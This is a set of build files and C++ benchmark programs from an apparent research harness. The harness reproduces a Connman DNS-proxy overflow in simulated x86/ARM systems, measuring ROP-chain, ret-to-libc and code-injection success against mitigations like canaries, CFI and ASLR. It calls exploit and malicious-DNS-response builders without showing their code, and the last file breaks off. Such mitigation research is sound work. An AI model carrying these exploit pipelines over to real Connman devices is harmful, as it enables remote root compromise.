