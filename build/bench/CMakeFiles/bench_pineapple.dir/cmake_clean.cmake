file(REMOVE_RECURSE
  "CMakeFiles/bench_pineapple.dir/bench_pineapple.cpp.o"
  "CMakeFiles/bench_pineapple.dir/bench_pineapple.cpp.o.d"
  "bench_pineapple"
  "bench_pineapple.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_pineapple.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
