file(REMOVE_RECURSE
  "CMakeFiles/bench_payload_gen.dir/bench_payload_gen.cpp.o"
  "CMakeFiles/bench_payload_gen.dir/bench_payload_gen.cpp.o.d"
  "bench_payload_gen"
  "bench_payload_gen.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_payload_gen.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
