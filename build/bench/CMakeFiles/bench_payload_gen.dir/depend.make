# Empty dependencies file for bench_payload_gen.
# This may be replaced when dependencies are built.
