file(REMOVE_RECURSE
  "CMakeFiles/pineapple_mitm.dir/pineapple_mitm.cpp.o"
  "CMakeFiles/pineapple_mitm.dir/pineapple_mitm.cpp.o.d"
  "pineapple_mitm"
  "pineapple_mitm.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/pineapple_mitm.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
