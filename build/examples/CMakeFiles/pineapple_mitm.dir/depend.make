# Empty dependencies file for pineapple_mitm.
# This may be replaced when dependencies are built.
