# Empty compiler generated dependencies file for autopwn.
# This may be replaced when dependencies are built.
