file(REMOVE_RECURSE
  "CMakeFiles/autopwn.dir/autopwn.cpp.o"
  "CMakeFiles/autopwn.dir/autopwn.cpp.o.d"
  "autopwn"
  "autopwn.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/autopwn.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
