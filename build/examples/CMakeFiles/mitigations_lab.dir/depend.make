# Empty dependencies file for mitigations_lab.
# This may be replaced when dependencies are built.
