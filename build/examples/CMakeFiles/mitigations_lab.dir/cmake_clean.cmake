file(REMOVE_RECURSE
  "CMakeFiles/mitigations_lab.dir/mitigations_lab.cpp.o"
  "CMakeFiles/mitigations_lab.dir/mitigations_lab.cpp.o.d"
  "mitigations_lab"
  "mitigations_lab.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/mitigations_lab.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
