# Empty dependencies file for adapt_targets.
# This may be replaced when dependencies are built.
