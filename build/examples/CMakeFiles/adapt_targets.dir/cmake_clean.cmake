file(REMOVE_RECURSE
  "CMakeFiles/adapt_targets.dir/adapt_targets.cpp.o"
  "CMakeFiles/adapt_targets.dir/adapt_targets.cpp.o.d"
  "adapt_targets"
  "adapt_targets.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/adapt_targets.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
