# Empty dependencies file for six_attacks.
# This may be replaced when dependencies are built.
