file(REMOVE_RECURSE
  "CMakeFiles/six_attacks.dir/six_attacks.cpp.o"
  "CMakeFiles/six_attacks.dir/six_attacks.cpp.o.d"
  "six_attacks"
  "six_attacks.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/six_attacks.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
