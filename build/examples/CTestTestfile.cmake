# CMake generated Testfile for 
# Source directory: /root/repo/examples
# Build directory: /root/repo/build/examples
# 
# This file includes the relevant testing commands required for 
# testing this directory and lists subdirectories to be tested as well.
add_test(example_quickstart "/root/repo/build/examples/quickstart")
set_tests_properties(example_quickstart PROPERTIES  TIMEOUT "120" _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;17;add_test;/root/repo/examples/CMakeLists.txt;0;")
add_test(example_six_attacks "/root/repo/build/examples/six_attacks")
set_tests_properties(example_six_attacks PROPERTIES  TIMEOUT "120" _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;17;add_test;/root/repo/examples/CMakeLists.txt;0;")
add_test(example_pineapple_mitm "/root/repo/build/examples/pineapple_mitm")
set_tests_properties(example_pineapple_mitm PROPERTIES  TIMEOUT "120" _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;17;add_test;/root/repo/examples/CMakeLists.txt;0;")
add_test(example_exploit_anatomy "/root/repo/build/examples/exploit_anatomy")
set_tests_properties(example_exploit_anatomy PROPERTIES  TIMEOUT "120" _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;17;add_test;/root/repo/examples/CMakeLists.txt;0;")
add_test(example_adapt_targets "/root/repo/build/examples/adapt_targets")
set_tests_properties(example_adapt_targets PROPERTIES  TIMEOUT "120" _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;17;add_test;/root/repo/examples/CMakeLists.txt;0;")
add_test(example_mitigations_lab "/root/repo/build/examples/mitigations_lab")
set_tests_properties(example_mitigations_lab PROPERTIES  TIMEOUT "120" _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;17;add_test;/root/repo/examples/CMakeLists.txt;0;")
add_test(example_autopwn "/root/repo/build/examples/autopwn" "--arch=arm" "--prot=wx_aslr" "--trace")
set_tests_properties(example_autopwn PROPERTIES  TIMEOUT "120" _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;20;add_test;/root/repo/examples/CMakeLists.txt;0;")
add_test(example_autopwn_x86 "/root/repo/build/examples/autopwn" "--arch=x86" "--prot=wx")
set_tests_properties(example_autopwn_x86 PROPERTIES  TIMEOUT "120" _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;21;add_test;/root/repo/examples/CMakeLists.txt;0;")
add_test(example_autopwn_canary_blocked "/root/repo/build/examples/autopwn" "--arch=arm" "--prot=all")
set_tests_properties(example_autopwn_canary_blocked PROPERTIES  TIMEOUT "120" WILL_FAIL "TRUE" _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;22;add_test;/root/repo/examples/CMakeLists.txt;0;")
