// E2 — the paper's core table: the six-attack matrix (2 architectures x 3
// protection levels, each with its matching technique), the cross-technique
// escalation rows, and the defense rows.
// Timing: full end-to-end controlled attack (profile + build + deliver).
#include <benchmark/benchmark.h>

#include <cstdio>

#include "src/attack/firmware.hpp"
#include "src/attack/matrix.hpp"
#include "src/attack/report.hpp"

using namespace connlab;

namespace {

void PrintTables() {
  auto six = attack::RunSixAttackMatrix();
  if (six.ok()) {
    std::printf("%s\n", attack::RenderMatrixTable(
                            six.value(), "E2: six-attack matrix (paper §III)")
                            .c_str());
  }
  for (isa::Arch arch : {isa::Arch::kVX86, isa::Arch::kVARM}) {
    auto cross = attack::RunCrossTechniqueMatrix(arch);
    if (cross.ok()) {
      std::printf("%s\n",
                  attack::RenderMatrixTable(
                      cross.value(), "E2: cross-technique escalation, " +
                                         std::string(isa::ArchName(arch)))
                      .c_str());
    }
  }
  auto defense = attack::RunDefenseMatrix();
  if (defense.ok()) {
    std::printf("%s\n", attack::RenderMatrixTable(defense.value(),
                                                  "E2: defense rows")
                            .c_str());
  }
  auto survey = attack::RunFirmwareSurvey();
  if (survey.ok()) {
    std::printf("%s\n", attack::RenderFirmwareSurvey(survey.value()).c_str());
  }
  std::printf("Expected shape: all six matched rows => ROOT SHELL; each\n"
              "technique fails exactly one level above its design point;\n"
              "patched/canary rows never shell; in the firmware survey all\n"
              "three vulnerable ships (§III: Yocto/OpenELEC/Tizen) fall and\n"
              "only the patched mainline survives.\n\n");
}

void BM_ControlledAttack(benchmark::State& state) {
  const auto arch = static_cast<isa::Arch>(state.range(0));
  const int level = static_cast<int>(state.range(1));
  attack::ScenarioConfig config;
  config.arch = arch;
  config.prot = level == 0   ? loader::ProtectionConfig::None()
                : level == 1 ? loader::ProtectionConfig::WxOnly()
                             : loader::ProtectionConfig::WxAslr();
  std::uint64_t shells = 0;
  for (auto _ : state) {
    auto result = attack::RunControlledScenario(config);
    benchmark::DoNotOptimize(result);
    if (result.ok() && result.value().shell) ++shells;
  }
  state.counters["shell_rate"] = benchmark::Counter(
      static_cast<double>(shells), benchmark::Counter::kAvgIterations);
}
BENCHMARK(BM_ControlledAttack)
    ->ArgsProduct({{0, 1}, {0, 1, 2}})
    ->Unit(benchmark::kMillisecond);

}  // namespace

int main(int argc, char** argv) {
  PrintTables();
  benchmark::Initialize(&argc, argv);
  benchmark::RunSpecifiedBenchmarks();
  benchmark::Shutdown();
  return 0;
}
