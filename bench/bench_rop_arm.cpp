// E4 — the ARM ROP chain (Listings 2 & 5): chain-length sweep showing the
// 3-call clobber crossover ("/bin/sh" dies after "/bi", "sh" fits), and the
// narrow-gadget failure.
// Timing: chain construction + delivery cost by length.
#include <benchmark/benchmark.h>

#include <cstdio>

#include "src/connman/dnsproxy.hpp"
#include "src/dns/craft.hpp"
#include "src/exploit/profile.hpp"
#include <cstring>

#include "src/exploit/rop_arm.hpp"
#include "src/gadget/finder.hpp"
#include "src/isa/varm.hpp"
#include "src/loader/boot.hpp"

using namespace connlab;

namespace {

exploit::TargetProfile Profile() {
  static exploit::TargetProfile cached = [] {
    auto sys =
        loader::Boot(isa::Arch::kVARM, loader::ProtectionConfig::WxAslr(), 100)
            .value();
    connman::DnsProxy proxy(*sys, connman::Version::k134);
    exploit::ProfileExtractor extractor(*sys, proxy);
    return extractor.Extract().value();
  }();
  return cached;
}

connman::ProxyOutcome Fire(const dns::PayloadImage& image) {
  auto sys =
      loader::Boot(isa::Arch::kVARM, loader::ProtectionConfig::WxAslr(), 4242)
          .value();
  connman::DnsProxy proxy(*sys, connman::Version::k134);
  dns::Message query = dns::Message::Query(0x7E57, "victim.example");
  (void)proxy.AcceptClientQuery(dns::Encode(query).value());
  auto labels = dns::CutIntoLabels(image).value();
  auto evil = dns::MaliciousAResponse(query, labels);
  return proxy.HandleServerResponse(dns::Encode(evil).value());
}

void PrintChainLengthTable() {
  exploit::TargetProfile profile = Profile();
  std::printf(
      "== E4: ARM chain-length sweep — the 3-call clobber (paper §III-C2) ==\n");
  std::printf("%-10s %8s %8s  %s\n", "copy str", "memcpys", "bytes", "outcome");
  std::printf("%s\n", std::string(58, '-').c_str());
  const char* strings[] = {"s", "sh", "/bi", "/bin", "/bin/s", "/bin/sh"};
  for (const char* s : strings) {
    exploit::ArmRopOptions options;
    options.copy_str = s;
    auto image = exploit::BuildArmRopChain(profile, options);
    if (!image.ok()) {
      std::printf("%-10s %8zu %8s  build failed: %s\n", s, strlen(s), "-",
                  image.status().ToString().c_str());
      continue;
    }
    auto outcome = Fire(image.value());
    std::printf("%-10s %8zu %8zu  %s\n", s, strlen(s), image.value().size(),
                std::string(connman::OutcomeKindName(outcome.kind)).c_str());
  }
  std::printf("\nExpected shape: chains of <= 3 call frames (120 bytes) run to\n"
              "completion — \"s\" execs /bin/s (not a shell), \"sh\" is the\n"
              "root shell; anything longer is clobbered in flight and\n"
              "crashes — exactly why the paper copies only \"sh\" and leans\n"
              "on execlp's PATH resolution.\n\n");

  // The narrow-gadget ablation.
  auto sys =
      loader::Boot(isa::Arch::kVARM, loader::ProtectionConfig::WxAslr(), 100)
          .value();
  gadget::Finder finder(*sys);
  auto narrow = finder.FindPopRegsPc(isa::varm::Mask({isa::kR0}));
  if (narrow.ok()) {
    exploit::ArmRopOptions options;
    options.override_gadget = narrow.value().addr;
    options.override_mask = narrow.value().instrs.front().reg_mask;
    auto image = exploit::BuildArmRopChain(profile, options);
    if (image.ok()) {
      auto outcome = Fire(image.value());
      std::printf("narrow gadget (%s): %s\n",
                  narrow.value().ToString(isa::Arch::kVARM).c_str(),
                  outcome.ToString().c_str());
      std::printf("Expected: SIGSEGV in parse_rr — \"utilizing a gadget with\n"
                  "fewer registers results in a SIGSEV\" (§III-B2).\n\n");
    }
  }
}

void BM_BuildArmChain(benchmark::State& state) {
  exploit::TargetProfile profile = Profile();
  exploit::ArmRopOptions options;
  options.copy_str = std::string(static_cast<std::size_t>(state.range(0)), 's');
  for (auto _ : state) {
    auto image = exploit::BuildArmRopChain(profile, options);
    benchmark::DoNotOptimize(image);
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_BuildArmChain)->Arg(1)->Arg(2)->Arg(7);

void BM_DeliverArmChain(benchmark::State& state) {
  exploit::TargetProfile profile = Profile();
  auto image = exploit::BuildArmRopChain(profile, {}).value();
  auto labels = dns::CutIntoLabels(image).value();
  auto sys =
      loader::Boot(isa::Arch::kVARM, loader::ProtectionConfig::WxAslr(), 4242)
          .value();
  connman::DnsProxy proxy(*sys, connman::Version::k134);
  std::uint16_t id = 1;
  for (auto _ : state) {
    dns::Message query = dns::Message::Query(id++, "victim.example");
    (void)proxy.AcceptClientQuery(dns::Encode(query).value());
    auto evil = dns::MaliciousAResponse(query, labels);
    auto outcome = proxy.HandleServerResponse(dns::Encode(evil).value());
    benchmark::DoNotOptimize(outcome);
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_DeliverArmChain);

}  // namespace

int main(int argc, char** argv) {
  PrintChainLengthTable();
  benchmark::Initialize(&argc, argv);
  benchmark::RunSpecifiedBenchmarks();
  benchmark::Shutdown();
  return 0;
}
