// E8 — mitigation ablations (§IV): canary / CFI / diversity against the
// strongest exploit, and the ASLR-entropy brute-force model (how many
// attempts a stale ret-to-libc needs as entropy grows — the related-work
// D-link PoC brute-forced exactly this way).
#include <benchmark/benchmark.h>

#include <cstdio>

#include "src/connman/dnsproxy.hpp"
#include "src/dns/craft.hpp"
#include "src/exploit/generator.hpp"
#include "src/exploit/profile.hpp"
#include "src/loader/boot.hpp"

using namespace connlab;

namespace {

exploit::TargetProfile Profile(isa::Arch arch, loader::ProtectionConfig prot) {
  auto sys = loader::Boot(arch, prot, 100).value();
  connman::DnsProxy proxy(*sys, connman::Version::k134);
  exploit::ProfileExtractor extractor(*sys, proxy);
  return extractor.Extract().value();
}

connman::ProxyOutcome Fire(isa::Arch arch, loader::ProtectionConfig prot,
                           std::uint64_t seed,
                           const exploit::TargetProfile& profile,
                           exploit::Technique technique) {
  auto sys = loader::Boot(arch, prot, seed).value();
  connman::DnsProxy proxy(*sys, connman::Version::k134);
  exploit::ExploitGenerator generator(profile);
  dns::Message query = dns::Message::Query(0x7E57, "victim.example");
  (void)proxy.AcceptClientQuery(dns::Encode(query).value());
  auto response = generator.BuildResponse(query, technique);
  if (!response.ok()) {
    connman::ProxyOutcome failed;
    failed.detail = response.status().ToString();
    return failed;
  }
  return proxy.HandleServerResponse(dns::Encode(response.value()).value());
}

void PrintMitigationTable() {
  std::printf("== E8a: mitigations vs the W^X+ASLR-proof ROP chain ==\n");
  std::printf("%-6s %-24s %s\n", "arch", "target protections", "outcome");
  std::printf("%s\n", std::string(56, '-').c_str());
  for (isa::Arch arch : {isa::Arch::kVX86, isa::Arch::kVARM}) {
    exploit::TargetProfile profile =
        Profile(arch, loader::ProtectionConfig::WxAslr());
    struct Row {
      const char* label;
      loader::ProtectionConfig prot;
    };
    const Row rows[] = {
        {"W^X+ASLR (paper baseline)", loader::ProtectionConfig::WxAslr()},
        {"+ stack canary", loader::ProtectionConfig::All()},
        {"+ CFI shadow stack", loader::ProtectionConfig::WxAslrCfi()},
        {"+ diversity (other build)", loader::ProtectionConfig::Diversified(9)},
    };
    for (const Row& row : rows) {
      auto outcome = Fire(arch, row.prot, 4242, profile,
                          exploit::Technique::kRopMemcpyChain);
      std::printf("%-6s %-24s %s\n", std::string(isa::ArchName(arch)).c_str(),
                  row.label,
                  std::string(connman::OutcomeKindName(outcome.kind)).c_str());
    }
  }
  std::printf("\nExpected shape: only the baseline rows shell.\n\n");
}

void PrintBruteForceTable() {
  std::printf("== E8b: ASLR entropy vs stale ret-to-libc (brute-force model) ==\n");
  std::printf("%8s %8s %8s %12s %12s\n", "bits", "trials", "hits",
              "observed", "expected");
  std::printf("%s\n", std::string(54, '-').c_str());
  exploit::TargetProfile profile =
      Profile(isa::Arch::kVX86, loader::ProtectionConfig::WxOnly());
  for (int bits : {1, 2, 4, 6}) {
    loader::ProtectionConfig prot = loader::ProtectionConfig::WxAslr();
    prot.aslr_entropy_bits = bits;
    const int trials = 256;
    int hits = 0;
    for (int t = 0; t < trials; ++t) {
      auto outcome = Fire(isa::Arch::kVX86, prot,
                          static_cast<std::uint64_t>(t) + 10, profile,
                          exploit::Technique::kRet2Libc);
      hits += outcome.kind == connman::ProxyOutcome::Kind::kShell ? 1 : 0;
    }
    std::printf("%8d %8d %8d %11.4f%% %11.4f%%\n", bits, trials, hits,
                100.0 * hits / trials, 100.0 / (1 << bits));
  }
  std::printf("\nExpected shape: hit rate tracks 2^-bits — each extra entropy\n"
              "bit doubles the expected brute-force cost, and at real-world\n"
              "entropy (12+ bits) single-shot ret-to-libc is hopeless, which\n"
              "is why §III-C escalates to the ROP chain instead of guessing.\n\n");
}

void BM_BootByProtection(benchmark::State& state) {
  loader::ProtectionConfig prot;
  switch (state.range(0)) {
    case 0: prot = loader::ProtectionConfig::None(); break;
    case 1: prot = loader::ProtectionConfig::WxAslr(); break;
    case 2: prot = loader::ProtectionConfig::WxAslrCfi(); break;
    default: prot = loader::ProtectionConfig::Diversified(3); break;
  }
  std::uint64_t seed = 0;
  for (auto _ : state) {
    auto sys = loader::Boot(isa::Arch::kVARM, prot, seed++);
    benchmark::DoNotOptimize(sys);
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_BootByProtection)->DenseRange(0, 3)->Unit(benchmark::kMicrosecond);

void BM_CfiOverheadOnBenignTraffic(benchmark::State& state) {
  const bool cfi = state.range(0) != 0;
  auto prot = cfi ? loader::ProtectionConfig::WxAslrCfi()
                  : loader::ProtectionConfig::WxAslr();
  auto sys = loader::Boot(isa::Arch::kVARM, prot, 1).value();
  connman::DnsProxy proxy(*sys, connman::Version::k134);
  std::uint16_t id = 1;
  for (auto _ : state) {
    dns::Message query = dns::Message::Query(id++, "h.example");
    (void)proxy.AcceptClientQuery(dns::Encode(query).value());
    dns::Message response = dns::Message::ResponseFor(query);
    response.answers.push_back(dns::MakeA("h.example", "1.2.3.4"));
    auto outcome = proxy.HandleServerResponse(dns::Encode(response).value());
    benchmark::DoNotOptimize(outcome);
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_CfiOverheadOnBenignTraffic)->Arg(0)->Arg(1);

}  // namespace

int main(int argc, char** argv) {
  PrintMitigationTable();
  PrintBruteForceTable();
  benchmark::Initialize(&argc, argv);
  benchmark::RunSpecifiedBenchmarks();
  benchmark::Shutdown();
  return 0;
}
