// E7 — the tooling pass (§II/§III: gdb + ropper + ROPgadget): gadget
// population per architecture and scan/search throughput.
#include <benchmark/benchmark.h>

#include <cstdio>

#include "src/gadget/finder.hpp"
#include "src/gadget/memstr.hpp"
#include "src/isa/varm.hpp"
#include "src/loader/boot.hpp"

using namespace connlab;

namespace {

void PrintGadgetCensus() {
  std::printf("== E7: gadget census over the simulated Connman image ==\n");
  std::printf("%-6s %10s %10s %10s\n", "arch", ".text B", "gadgets",
              "unaligned");
  std::printf("%s\n", std::string(44, '-').c_str());
  for (isa::Arch arch : {isa::Arch::kVX86, isa::Arch::kVARM}) {
    auto sys = loader::Boot(arch, loader::ProtectionConfig::None(), 1).value();
    gadget::Finder finder(*sys);
    const auto all = finder.FindAll(4);
    std::size_t unaligned = 0;
    for (const auto& g : all) unaligned += (g.addr % 4) != 0 ? 1 : 0;
    std::printf("%-6s %10zu %10zu %10zu\n",
                std::string(isa::ArchName(arch)).c_str(), finder.text_size(),
                all.size(), unaligned);
  }
  std::printf("\nExpected shape: the byte-granular VX86 scan yields many\n"
              "unintended (unaligned) gadgets; the word-aligned VARM scan\n"
              "yields none — mirroring real x86 vs ARM gadget discovery.\n\n");
}

void BM_FindAll(benchmark::State& state) {
  const auto arch = static_cast<isa::Arch>(state.range(0));
  auto sys = loader::Boot(arch, loader::ProtectionConfig::None(), 1).value();
  gadget::Finder finder(*sys);
  for (auto _ : state) {
    auto all = finder.FindAll(4);
    benchmark::DoNotOptimize(all);
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          static_cast<std::int64_t>(finder.text_size()));
}
BENCHMARK(BM_FindAll)->Arg(0)->Arg(1);

void BM_FindSpecificGadgets(benchmark::State& state) {
  auto sys =
      loader::Boot(isa::Arch::kVARM, loader::ProtectionConfig::None(), 1).value();
  gadget::Finder finder(*sys);
  const std::uint16_t need = isa::varm::Mask(
      {isa::kR0, isa::kR1, isa::kR2, isa::kR3, isa::kR5, isa::kR6, isa::kR7});
  for (auto _ : state) {
    auto pops = finder.FindPopRegsPc(need);
    auto blx = finder.FindBlx(isa::kR3);
    benchmark::DoNotOptimize(pops);
    benchmark::DoNotOptimize(blx);
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_FindSpecificGadgets);

void BM_MemStrScan(benchmark::State& state) {
  auto sys =
      loader::Boot(isa::Arch::kVX86, loader::ProtectionConfig::None(), 1).value();
  gadget::MemStr memstr(*sys);
  for (auto _ : state) {
    auto addrs = memstr.FindChars("/bin/sh");
    benchmark::DoNotOptimize(addrs);
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_MemStrScan);

}  // namespace

int main(int argc, char** argv) {
  PrintGadgetCensus();
  benchmark::Initialize(&argc, argv);
  benchmark::RunSpecifiedBenchmarks();
  benchmark::Shutdown();
  return 0;
}
