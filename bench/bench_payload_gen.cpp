// E10b — the attacker's costs: profile extraction (probe count and time),
// payload-image construction per technique, and the label cutter on
// payload-sized images.
#include <benchmark/benchmark.h>

#include <cstdio>

#include "src/connman/dnsproxy.hpp"
#include "src/dns/craft.hpp"
#include "src/exploit/generator.hpp"
#include "src/exploit/profile.hpp"
#include "src/loader/boot.hpp"

using namespace connlab;

namespace {

void PrintProbeTable() {
  std::printf("== E10b: profile extraction — probes per configuration ==\n");
  std::printf("%-6s %-14s %8s %10s\n", "arch", "protections", "probes",
              "ret_off");
  std::printf("%s\n", std::string(42, '-').c_str());
  for (isa::Arch arch : {isa::Arch::kVX86, isa::Arch::kVARM}) {
    for (int level = 0; level < 3; ++level) {
      const auto prot = level == 0   ? loader::ProtectionConfig::None()
                        : level == 1 ? loader::ProtectionConfig::WxOnly()
                                     : loader::ProtectionConfig::WxAslr();
      auto sys = loader::Boot(arch, prot, 100).value();
      connman::DnsProxy proxy(*sys, connman::Version::k134);
      exploit::ProfileExtractor extractor(*sys, proxy);
      exploit::TargetProfile profile;
      profile.arch = arch;
      auto probes = extractor.ProbeFrameGeometry(profile);
      std::printf("%-6s %-14s %8d %10u\n",
                  std::string(isa::ArchName(arch)).c_str(),
                  prot.ToString().c_str(), probes.value_or(-1),
                  profile.ret_offset);
    }
  }
  std::printf("\nExpected shape: VX86 needs a single probe (the pattern lands\n"
              "straight in the return slot); VARM needs ~5 (each parse_rr /\n"
              "cleanup slot must be discovered and pinned first). Protection\n"
              "level does not change the frame geometry.\n\n");
}

exploit::TargetProfile Profile(isa::Arch arch) {
  auto sys = loader::Boot(arch, loader::ProtectionConfig::WxAslr(), 100).value();
  connman::DnsProxy proxy(*sys, connman::Version::k134);
  exploit::ProfileExtractor extractor(*sys, proxy);
  return extractor.Extract().value();
}

void BM_ProfileExtraction(benchmark::State& state) {
  const auto arch = static_cast<isa::Arch>(state.range(0));
  for (auto _ : state) {
    auto sys =
        loader::Boot(arch, loader::ProtectionConfig::WxAslr(), 100).value();
    connman::DnsProxy proxy(*sys, connman::Version::k134);
    exploit::ProfileExtractor extractor(*sys, proxy);
    auto profile = extractor.Extract();
    benchmark::DoNotOptimize(profile);
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_ProfileExtraction)->Arg(0)->Arg(1)->Unit(benchmark::kMillisecond);

void BM_BuildImage(benchmark::State& state) {
  const auto arch = static_cast<isa::Arch>(state.range(0));
  const auto technique = static_cast<exploit::Technique>(state.range(1));
  exploit::TargetProfile profile = Profile(arch);
  exploit::ExploitGenerator generator(profile);
  // Skip inapplicable combinations (e.g. ret-to-libc on VARM).
  if (!generator.BuildImage(technique).ok()) {
    state.SkipWithError("technique not applicable");
    return;
  }
  for (auto _ : state) {
    auto image = generator.BuildImage(technique);
    benchmark::DoNotOptimize(image);
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_BuildImage)
    ->ArgsProduct({{0, 1},
                   {static_cast<long>(exploit::Technique::kCodeInjection),
                    static_cast<long>(exploit::Technique::kRet2Libc),
                    static_cast<long>(exploit::Technique::kArmGadgetExeclp),
                    static_cast<long>(exploit::Technique::kRopMemcpyChain)}});

void BM_CutIntoLabels(benchmark::State& state) {
  exploit::TargetProfile profile = Profile(isa::Arch::kVARM);
  exploit::ExploitGenerator generator(profile);
  auto image = generator.BuildImage(exploit::Technique::kRopMemcpyChain).value();
  for (auto _ : state) {
    auto labels = dns::CutIntoLabels(image);
    benchmark::DoNotOptimize(labels);
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          static_cast<std::int64_t>(image.size()));
}
BENCHMARK(BM_CutIntoLabels);

}  // namespace

int main(int argc, char** argv) {
  PrintProbeTable();
  benchmark::Initialize(&argc, argv);
  benchmark::RunSpecifiedBenchmarks();
  benchmark::Shutdown();
  return 0;
}
