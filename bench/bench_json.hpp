// Machine-readable bench output: each bench binary accepts `--json[=path]`
// and dumps a flat JSON object of its headline numbers (steps/sec,
// execs/sec, reboot cost, speedups), so CI can archive and diff performance
// across commits without scraping the human tables. Header-only and
// deliberately tiny — flat string/number objects only, no escaping beyond
// what our own keys need.
#pragma once

#include <cstdio>
#include <string>
#include <vector>

namespace connlab::benchout {

/// Strips a `--json[=path]` flag from argv (so google-benchmark never sees
/// it) and returns the output path: `default_path` for a bare `--json`,
/// empty string when the flag is absent.
inline std::string TakeJsonFlag(int& argc, char** argv,
                                const std::string& default_path) {
  std::string path;
  int w = 1;
  for (int r = 1; r < argc; ++r) {
    const std::string arg = argv[r];
    if (arg == "--json") {
      path = default_path;
    } else if (arg.rfind("--json=", 0) == 0) {
      path = arg.substr(7);
      if (path.empty()) path = default_path;
    } else {
      argv[w++] = argv[r];
    }
  }
  argc = w;
  return path;
}

/// Flat JSON object writer. Values must not need escaping (our keys and
/// values are identifiers, hex digests and numbers).
class JsonWriter {
 public:
  void Number(const std::string& key, double value) {
    char buf[64];
    std::snprintf(buf, sizeof(buf), "%.6g", value);
    fields_.push_back('"' + key + "\": " + buf);
  }
  void Integer(const std::string& key, unsigned long long value) {
    fields_.push_back('"' + key + "\": " + std::to_string(value));
  }
  void String(const std::string& key, const std::string& value) {
    fields_.push_back('"' + key + "\": \"" + value + '"');
  }
  void Bool(const std::string& key, bool value) {
    fields_.push_back('"' + key + (value ? "\": true" : "\": false"));
  }

  [[nodiscard]] std::string Render() const {
    std::string out = "{\n";
    for (std::size_t i = 0; i < fields_.size(); ++i) {
      out += "  " + fields_[i];
      if (i + 1 < fields_.size()) out += ',';
      out += '\n';
    }
    out += "}\n";
    return out;
  }

  /// Writes the object to `path`; prints a note either way so CI logs show
  /// where the artifact landed.
  bool WriteFile(const std::string& path) const {
    std::FILE* f = std::fopen(path.c_str(), "w");
    if (f == nullptr) {
      std::fprintf(stderr, "bench json: cannot open %s\n", path.c_str());
      return false;
    }
    const std::string text = Render();
    const bool ok = std::fwrite(text.data(), 1, text.size(), f) == text.size();
    std::fclose(f);
    std::printf("bench json written to %s\n", path.c_str());
    return ok;
  }

 private:
  std::vector<std::string> fields_;
};

}  // namespace connlab::benchout
