// E16: fleet campaign throughput and the survival curve.
//
// Two headline numbers for the tripwire:
//   - fleet_victims_per_sec: how fast the discrete-event driver pushes
//     victims through join/query/attack/leave at 8 bits of diversity (the
//     heaviest configuration — most lanes, most churn).
//   - compromised-fraction rows per entropy point (info-only: they are
//     model outputs, not performance, but CI archives them so a modeling
//     change shows up in the artifact diff).
#include <benchmark/benchmark.h>

#include <cinttypes>
#include <cstdio>
#include <string>

#include "bench/bench_json.hpp"
#include "src/fleet/campaign.hpp"
#include "src/fleet/report.hpp"

using namespace connlab;

namespace {

fleet::FleetConfig BenchConfig(std::uint64_t victims, int diversity_bits) {
  fleet::FleetConfig config;
  config.victims = victims;
  config.seed = 42;
  config.population.diversity_bits = diversity_bits;
  return config;
}

void BM_FleetCampaign10k(benchmark::State& state) {
  for (auto _ : state) {
    auto result = fleet::RunFleetCampaign(BenchConfig(10000, 4));
    if (!result.ok()) state.SkipWithError("campaign failed");
    benchmark::DoNotOptimize(result);
  }
}
BENCHMARK(BM_FleetCampaign10k)->Unit(benchmark::kMillisecond);

}  // namespace

int main(int argc, char** argv) {
  const std::string json_path =
      benchout::TakeJsonFlag(argc, argv, "BENCH_fleet.json");
  const std::uint64_t victims = json_path.empty() ? 200000 : 100000;

  std::printf("== E16: one profiled exploit vs a diverse fleet ==\n\n");
  auto curve = fleet::RunSurvivalSweep(BenchConfig(victims, 0), {0, 4, 8});
  if (!curve.ok()) {
    std::printf("error: %s\n", curve.status().ToString().c_str());
    return 1;
  }
  std::printf("%s\n", fleet::RenderSurvivalCurve(curve.value()).c_str());
  std::printf("curve digest: %016" PRIx64 "\n\n",
              fleet::CurveDigest(curve.value()));

  // Throughput headline: the heaviest point of the sweep.
  const fleet::SurvivalPoint& heavy = curve.value().back();

  if (!json_path.empty()) {
    benchout::JsonWriter json;
    json.String("bench", "fleet");
    json.Integer("fleet_victims", victims);
    json.Number("fleet_victims_per_sec", heavy.victims_per_sec);
